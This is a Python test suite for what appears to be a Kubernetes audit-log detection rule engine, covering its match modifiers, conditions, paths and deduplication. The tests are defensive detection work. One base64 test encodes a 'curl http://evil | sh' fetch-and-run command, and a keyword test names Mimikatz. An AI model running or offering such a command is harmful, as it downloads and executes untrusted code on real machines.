"""Detection semantics, one point per test: modifiers, paths, null/missing, conditions."""

from __future__ import annotations

import base64

import pytest
from ruletools import ev, matches, rule_yaml, ruleset

from kubehawk.rules import Engine, RuleLoadError, RuleSet

# --- strings: case, wildcards, cased ------------------------------------------------------


def test_equality_is_case_insensitive():
    assert matches("sel: {verb: CREATE}\ncondition: sel", verb="create")
    assert not matches("sel: {verb: create}\ncondition: sel", verb="update")


def test_wildcards_star_and_question_mark():
    d = "sel: {user.username: 'system:serviceaccount:*:default'}\ncondition: sel"
    assert matches(d, user={"username": "system:serviceaccount:kube-system:default"})
    assert not matches(d, user={"username": "system:serviceaccount:kube-system:builder"})
    d = "sel: {user.username: '?ob'}\ncondition: sel"
    assert matches(d, user={"username": "BOB"})
    assert not matches(d, user={"username": "bbob"})


def test_escaped_wildcard_is_literal():
    d = r"sel: {userAgent: 'a\*b'}" + "\ncondition: sel"
    assert matches(d, userAgent="a*b")
    assert not matches(d, userAgent="axxb")


def test_cased_is_exact():
    d = "sel: {user.username|cased: Bob}\ncondition: sel"
    assert matches(d, user={"username": "Bob"})
    assert not matches(d, user={"username": "bob"})


def test_contains_startswith_endswith():
    assert matches("sel: {userAgent|contains: KUBECTL}\ncondition: sel", userAgent="x kubectl/1.30")
    assert not matches("sel: {userAgent|contains: curl}\ncondition: sel", userAgent="kubectl")
    assert matches("sel: {requestURI|startswith: /api/v1/secrets}\ncondition: sel", requestURI="/api/v1/secrets?x")
    assert not matches("sel: {requestURI|startswith: /apis}\ncondition: sel", requestURI="/api/v1")
    assert matches("sel: {requestURI|endswith: /EXEC}\ncondition: sel", requestURI="/api/v1/pods/p/exec")
    assert not matches("sel: {requestURI|endswith: /exec}\ncondition: sel", requestURI="/api/v1/pods/p/log")


def test_contains_all_needs_every_value():
    d = "sel:\n  requestURI|contains|all: [command=sh, tty=true]\ncondition: sel"
    assert matches(d, requestURI="/exec?command=sh&tty=true")
    assert not matches(d, requestURI="/exec?command=sh&tty=false")


def test_startswith_endswith_all():
    d = "sel:\n  userAgent|startswith|all: [kube, kubectl]\ncondition: sel"
    assert matches(d, userAgent="kubectl/1.2")
    assert not matches(d, userAgent="kubelet/1.2")
    d = "sel:\n  userAgent|endswith|all: ['.2', '1.2']\ncondition: sel"
    assert matches(d, userAgent="kubectl/1.2")
    assert not matches(d, userAgent="kubectl/3.2")


def test_all_over_values_of_a_list_field():
    d = "sel:\n  user.groups|all: [system:masters, system:authenticated]\ncondition: sel"
    both = {"username": "x", "groups": ["system:authenticated", "system:masters"]}
    assert matches(d, user=both)
    assert not matches(d, user={"username": "x", "groups": ["system:authenticated"]})


def test_value_list_is_or():
    d = "sel: {verb: [create, update]}\ncondition: sel"
    assert matches(d, verb="update")
    assert not matches(d, verb="patch")


# --- regular expressions ------------------------------------------------------------------


def test_re_search_and_flags():
    assert matches("sel: {user.username|re: '^system:node:.*$'}\ncondition: sel", user={"username": "system:node:n1"})
    assert not matches("sel: {user.username|re: '^node'}\ncondition: sel", user={"username": "system:node:n1"})
    # case-sensitive by default; |i makes it insensitive
    assert not matches("sel: {userAgent|re: 'CURL'}\ncondition: sel", userAgent="curl/8")
    assert matches("sel: {userAgent|re|i: 'CURL'}\ncondition: sel", userAgent="curl/8")
    # |s lets . cross newlines, |m anchors per line
    assert matches("sel: {userAgent|re|s: 'a.b'}\ncondition: sel", userAgent="a\nb")
    assert not matches("sel: {userAgent|re: 'a.b'}\ncondition: sel", userAgent="a\nb")
    assert matches("sel: {userAgent|re|m: '^b$'}\ncondition: sel", userAgent="a\nb")


@pytest.mark.parametrize(
    ("pattern", "feature"),
    [(r"(ab)\1", "a backreference"), ("(a+)+(?=x)", "a lookahead or lookbehind"),
     ("(?<!x)y", "a negative lookahead or lookbehind"), ("(?>a+)b", "an atomic group")],
)
def test_regex_redos_re2_cannot_run_is_refused_at_load_naming_the_feature(pattern, feature):
    # never handed to Python's backtracking engine, where one crafted value could hold the run
    with pytest.raises(RuleLoadError, match=rf"rule0\.yml: .*uses {feature}, which RE2 does not support"):
        ruleset(rule_yaml(f"sel: {{userAgent|re: '{pattern}'}}\ncondition: sel"))


def test_regex_redos_a_refused_pattern_is_one_counted_error_the_other_rules_load():
    bad = rule_yaml("sel: {userAgent|re: '^(a|a)*$(?<=b)'}\ncondition: sel")
    good = rule_yaml("sel: {verb: get}\ncondition: sel")
    rs = RuleSet.from_texts([("bad.yml", bad), ("good.yml", good)], collect_errors=True)
    assert len(rs.rules) == 1 and len(rs.errors) == 1
    assert str(rs.errors[0]).startswith("bad.yml: ") and "lookahead or lookbehind" in str(rs.errors[0])


def test_bad_regex_is_a_load_error():
    with pytest.raises(RuleLoadError, match=r"rule0\.yml: .*(?i:regular expression)"):
        ruleset(rule_yaml("sel: {userAgent|re: '(unclosed'}\ncondition: sel"))


# --- cidr ---------------------------------------------------------------------------------


def test_cidr_over_list_of_ips():
    d = "sel: {sourceIPs|cidr: 10.0.0.0/8}\ncondition: sel"
    assert matches(d, sourceIPs=["1.2.3.4", "10.9.8.7"])
    assert not matches(d, sourceIPs=["192.168.1.1"])
    assert not matches(d, sourceIPs=["not-an-ip", "10.0.0.300"])


def test_cidr_ipv6_and_multiple_networks():
    d = "sel:\n  sourceIPs|cidr: ['fd00::/8', '172.16.0.0/12']\ncondition: sel"
    assert matches(d, sourceIPs=["fd12::1"])
    assert matches(d, sourceIPs=["172.20.0.1"])
    assert not matches(d, sourceIPs=["2001:db8::1"])


# --- exists, null, missing ----------------------------------------------------------------


def test_exists_true_false():
    yes = "sel: {objectRef.subresource|exists: true}\ncondition: sel"
    no = "sel: {objectRef.subresource|exists: false}\ncondition: sel"
    with_sub = {"resource": "pods", "subresource": "exec"}
    assert matches(yes, objectRef=with_sub)
    assert not matches(yes, objectRef={"resource": "pods"})
    assert matches(no, objectRef={"resource": "pods"})
    assert not matches(no, objectRef=with_sub)
    # the spec: exists tests presence, "not its value, be it empty or null"
    assert not matches(no, objectRef={"resource": "pods", "subresource": None})
    assert matches(yes, objectRef={"resource": "pods", "subresource": None})


def test_null_matches_missing_and_json_null():
    d = "sel: {objectRef.namespace: null}\ncondition: sel"
    assert matches(d, objectRef={"resource": "nodes"})
    assert matches(d, objectRef={"resource": "nodes", "namespace": None})
    assert not matches(d, objectRef={"resource": "pods", "namespace": "default"})


def test_missing_field_never_equals_so_not_is_true():
    assert not matches("sel: {objectRef.subresource: exec}\ncondition: sel", objectRef={"resource": "pods"})
    assert matches("sel: {objectRef.subresource: exec}\ncondition: not sel", objectRef={"resource": "pods"})
    assert matches("sel: {objectRef.subresource|contains: x}\ncondition: not sel", objectRef={"resource": "p"})


def test_neq_modifier():
    d = "sel: {verb|neq: get}\ncondition: sel"
    assert matches(d, verb="list")
    assert not matches(d, verb="get")


# --- numbers, comparisons, booleans -------------------------------------------------------


def test_number_matches_int_and_numeric_string():
    d = "sel: {responseStatus.code: 403}\ncondition: sel"
    assert matches(d, responseStatus={"code": 403})
    assert matches(d, responseStatus={"code": "403"})
    assert not matches(d, responseStatus={"code": 404})
    # a quoted number in the rule is a string, and still matches the integer
    assert matches("sel: {responseStatus.code: '403'}\ncondition: sel", responseStatus={"code": 403})


@pytest.mark.parametrize(
    ("mod", "value", "hit", "miss"),
    [("gt", 400, 401, 400), ("gte", 400, 400, 399), ("lt", 300, 299, 300), ("lte", 300, 300, 301)],
)
def test_comparisons(mod, value, hit, miss):
    d = f"sel: {{responseStatus.code|{mod}: {value}}}\ncondition: sel"
    assert matches(d, responseStatus={"code": hit})
    assert matches(d, responseStatus={"code": str(hit)})
    assert not matches(d, responseStatus={"code": miss})
    assert not matches(d, responseStatus={"code": "n/a"})
    assert not matches(d, responseStatus={})


def test_booleans_match_json_and_string():
    d = "sel: {requestObject.spec.hostPID: true}\ncondition: sel"
    assert matches(d, requestObject={"spec": {"hostPID": True}})
    assert matches(d, requestObject={"spec": {"hostPID": "true"}})
    assert not matches(d, requestObject={"spec": {"hostPID": False}})
    assert not matches(d, requestObject={"spec": {}})
    assert not matches(d, requestObject={"spec": {"hostPID": 1}})


# --- base64 ---------------------------------------------------------------------------------


def test_base64_and_base64offset_contains():
    enc = base64.b64encode(b"curl http://evil").decode()
    assert matches("sel: {requestURI|base64: 'curl http://evil'}\ncondition: sel", requestURI=enc)
    for prefix in (b"", b"x", b"xy"):
        payload = base64.b64encode(prefix + b"curl http://evil | sh").decode()
        assert matches(
            "sel: {requestURI|base64offset|contains: 'http://evil'}\ncondition: sel", requestURI=f"/x?c={payload}"
        )
    other = base64.b64encode(b"wget http://good").decode()
    assert not matches("sel: {requestURI|base64offset|contains: 'http://evil'}\ncondition: sel", requestURI=other)


# --- expand ---------------------------------------------------------------------------------


def test_expand_list_is_or():
    d = "sel: {objectRef.namespace|expand: '%system_ns%'}\ncondition: sel"
    v = {"system_ns": ["kube-system", "kube-public"]}
    assert matches(d, variables=v, objectRef={"resource": "pods", "namespace": "kube-public"})
    assert not matches(d, variables=v, objectRef={"resource": "pods", "namespace": "default"})


def test_expand_inside_a_pattern_and_wildcards_in_values():
    d = "sel: {user.username|expand: 'system:serviceaccount:%ns%:*'}\ncondition: sel"
    v = {"ns": ["argo*", "flux-system"]}
    assert matches(d, variables=v, user={"username": "system:serviceaccount:argocd:app"})
    assert matches(d, variables=v, user={"username": "system:serviceaccount:flux-system:x"})
    assert not matches(d, variables=v, user={"username": "system:serviceaccount:default:x"})


def test_unresolved_placeholder_names_the_file():
    with pytest.raises(RuleLoadError, match=r"rule0\.yml: .*%nope%"):
        ruleset(rule_yaml("sel: {verb|expand: '%nope%'}\ncondition: sel"), variables={"other": ["x"]})


def test_expand_with_empty_list_matches_nothing():
    d = "sel: {verb|expand: '%none%'}\ncondition: sel"
    assert not matches(d, variables={"none": []}, verb="get")
    assert matches(d + " or not sel", variables={"none": []}, verb="get")


# --- fieldref, timestamp parts ------------------------------------------------------------


def test_fieldref():
    d = "sel: {objectRef.name|fieldref: user.username}\ncondition: sel"
    assert matches(d, objectRef={"resource": "users", "name": "Alice"}, user={"username": "alice"})
    assert not matches(d, objectRef={"resource": "users", "name": "bob"}, user={"username": "alice"})
    assert not matches(d, objectRef={"resource": "users"}, user={"username": "alice"})


def test_timestamp_part_modifier():
    d = "sel: {stageTimestamp|hour: 3}\ncondition: sel"
    assert matches(d, stageTimestamp="2026-11-23T03:15:00Z")
    assert not matches(d, stageTimestamp="2026-11-23T13:15:00Z")


# --- paths ------------------------------------------------------------------------------------


def test_path_through_a_list_matches_any_element():
    d = "sel: {requestObject.spec.containers.securityContext.privileged: true}\ncondition: sel"
    spec = {"containers": [{"name": "a"}, {"name": "b", "securityContext": {"privileged": True}}]}
    assert matches(d, requestObject={"spec": spec})
    spec = {"containers": [{"name": "a", "securityContext": {"privileged": False}}]}
    assert not matches(d, requestObject={"spec": spec})
    # not: no container is privileged
    assert matches(d.replace("condition: sel", "condition: not sel"), requestObject={"spec": spec})


def test_nested_lists_at_depth():
    d = "sel: {requestObject.spec.containers.ports.containerPort: 22}\ncondition: sel"
    spec = {"containers": [{"ports": [{"containerPort": 80}]}, {"ports": [{"containerPort": 8080}, {"containerPort": 22}]}]}
    assert matches(d, requestObject={"spec": spec})
    spec["containers"][1]["ports"].pop()
    assert not matches(d, requestObject={"spec": spec})


def test_dotted_keys_resolve_by_longest_existing_key():
    d = "sel: {annotations.authorization.k8s.io/decision: forbid}\ncondition: sel"
    assert matches(d, annotations={"authorization.k8s.io/decision": "forbid"})
    assert not matches(d, annotations={"authorization.k8s.io/decision": "allow"})
    d = "sel: {user.extra.authentication.kubernetes.io/pod-name: 'web-*'}\ncondition: sel"
    user = {"username": "sa", "extra": {"authentication.kubernetes.io/pod-name": ["web-1"]}}
    assert matches(d, user=user)
    d = "sel: {requestObject.metadata.labels.app.kubernetes.io/name: web}\ncondition: sel"
    assert matches(d, requestObject={"metadata": {"labels": {"app.kubernetes.io/name": "web"}}})


def test_string_pattern_against_objects_and_star():
    # a wildcard-only value means "present and not null", whatever its type
    d = "sel: {requestObject.spec.volumes.hostPath: '*'}\ncondition: sel"
    assert matches(d, requestObject={"spec": {"volumes": [{"hostPath": {"path": "/"}}]}})
    assert not matches(d, requestObject={"spec": {"volumes": [{"emptyDir": {}}]}})
    # a plain value never equals an object
    assert not matches("sel: {requestObject.spec: x}\ncondition: sel", requestObject={"spec": {"a": 1}})


# --- keywords -----------------------------------------------------------------------------------


def test_keyword_search_over_the_event_text():
    d = "kw:\n  - 'Mimikatz'\n  - 'evil*tool'\ncondition: kw"
    assert matches(d, userAgent="x-mimikatz-y")
    assert matches(d, requestObject={"cmd": "an evil little tool"})
    assert not matches(d, userAgent="kubectl")


# --- condition forms ----------------------------------------------------------------------------


BASE = """
sel_exec: {objectRef.subresource: exec}
sel_attach: {objectRef.subresource: attach}
filter_sys: {user.username|startswith: 'system:'}
filter_ns: {objectRef.namespace: kube-system}
"""


@pytest.mark.parametrize(
    ("cond", "sub", "user", "ns", "expected"),
    [
        ("1 of sel_*", "attach", "bob", "default", True),
        ("1 of sel_*", "log", "bob", "default", False),
        ("all of sel_*", "exec", "bob", "default", False),
        ("1 of sel_* and not 1 of filter_*", "exec", "bob", "default", True),
        ("1 of sel_* and not 1 of filter_*", "exec", "bob", "kube-system", False),
        ("1 of sel_* and not all of filter_*", "exec", "system:x", "default", True),
        ("1 of sel_* and not all of filter_*", "exec", "system:x", "kube-system", False),
        ("sel_exec and not (filter_sys or filter_ns)", "exec", "bob", "kube-system", False),
        ("(sel_exec or sel_attach) and filter_ns", "attach", "bob", "kube-system", True),
        ("not sel_exec and not sel_attach", "log", "bob", "default", True),
        ("1 of them", "log", "system:x", "default", True),
        ("all of them", "exec", "system:x", "kube-system", False),
        ("any of sel_*", "exec", "bob", "default", True),
    ],
)
def test_condition_forms(cond, sub, user, ns, expected):
    d = BASE + f"condition: {cond}"
    got = matches(d, objectRef={"resource": "pods", "subresource": sub, "namespace": ns}, user={"username": user})
    assert got is expected


def test_list_of_conditions_is_or():
    d = BASE + "condition:\n  - sel_exec\n  - sel_attach"
    assert matches(d, objectRef={"resource": "pods", "subresource": "attach"})
    assert not matches(d, objectRef={"resource": "pods", "subresource": "log"})


def test_list_of_maps_is_or_and_map_is_and():
    d = """
sel:
  - verb: create
    objectRef.resource: pods
  - verb: delete
    objectRef.resource: secrets
condition: sel
"""
    assert matches(d, verb="create", objectRef={"resource": "pods"})
    assert matches(d, verb="delete", objectRef={"resource": "secrets"})
    assert not matches(d, verb="create", objectRef={"resource": "secrets"})


# --- engine: matches, dedup, stats, errors ----------------------------------------------------------


def test_engine_returns_matches_in_rule_order_with_dedup_per_rule_and_audit_id():
    r1 = rule_yaml("sel: {verb: create}\ncondition: sel", title="one")
    r2 = rule_yaml("sel: {objectRef.resource: pods}\ncondition: sel", title="two")
    r3 = rule_yaml("sel: {user.username: alice}\ncondition: sel", title="three")
    eng = Engine(ruleset(r1, r2, r3))
    e = ev(verb="create", auditID="x1", stage="ResponseStarted")
    assert [m.rule.title for m in eng.process(e)] == ["one", "two", "three"]
    # the ResponseComplete of the same request alerts no more
    assert eng.process(ev(verb="create", auditID="x1", stage="ResponseComplete")) == []
    assert len(eng.process(ev(verb="create", auditID="x2"))) == 3
    assert eng.stats["events"] == 3
    assert eng.stats["matches"] == 6
    assert eng.stats["matches_by_rule"][eng.rules[0].id] == 2


def test_events_without_audit_id_are_not_deduplicated():
    eng = Engine(ruleset(rule_yaml("sel: {verb: create}\ncondition: sel")))
    e = ev(verb="create", auditID=None)
    assert len(eng.process(e)) == 1
    assert len(eng.process(ev(verb="create", auditID=None))) == 1


def test_dedup_memory_is_bounded():
    from kubehawk.rules import Dedup

    d = Dedup(size=10)
    for i in range(100):
        assert not d.seen(i)
        assert len(d) <= 20
    assert d.seen(99)
    assert not d.seen(0)  # forgotten long ago


def test_engine_dedup_window_is_bounded():
    eng = Engine(ruleset(rule_yaml("sel: {verb: create}\ncondition: sel")), dedup_size=5)
    for i in range(50):
        assert len(eng.process(ev(verb="create", auditID=f"id{i}"))) == 1
    assert len(eng._dedup) <= 10
    assert eng.process(ev(verb="create", auditID="id49")) == []
    assert len(eng.process(ev(verb="create", auditID="id0"))) == 1


def test_rule_error_on_odd_event_is_counted_not_raised(monkeypatch):
    rs = ruleset(rule_yaml("sel: {userAgent|contains: kube}\ncondition: sel"))
    eng = Engine(rs)
    rule = rs.rules[0]

    def boom(e):
        raise KeyError("weird")

    monkeypatch.setattr(rule, "predicate", boom)
    assert eng.index.candidates(ev()) == [rule]
    assert eng.process(ev()) == []
    assert eng.stats["errors"] == 1
    assert "test: rule" in eng.error_messages[0] and "KeyError" in eng.error_messages[0]


def test_engine_binds_config_to_events():
    class Cfg:
        pass

    cfg = Cfg()
    eng = Engine(ruleset(rule_yaml("sel: {verb: get}\ncondition: sel")), config=cfg)
    e = ev()
    eng.process(e)
    assert e._ctx is cfg
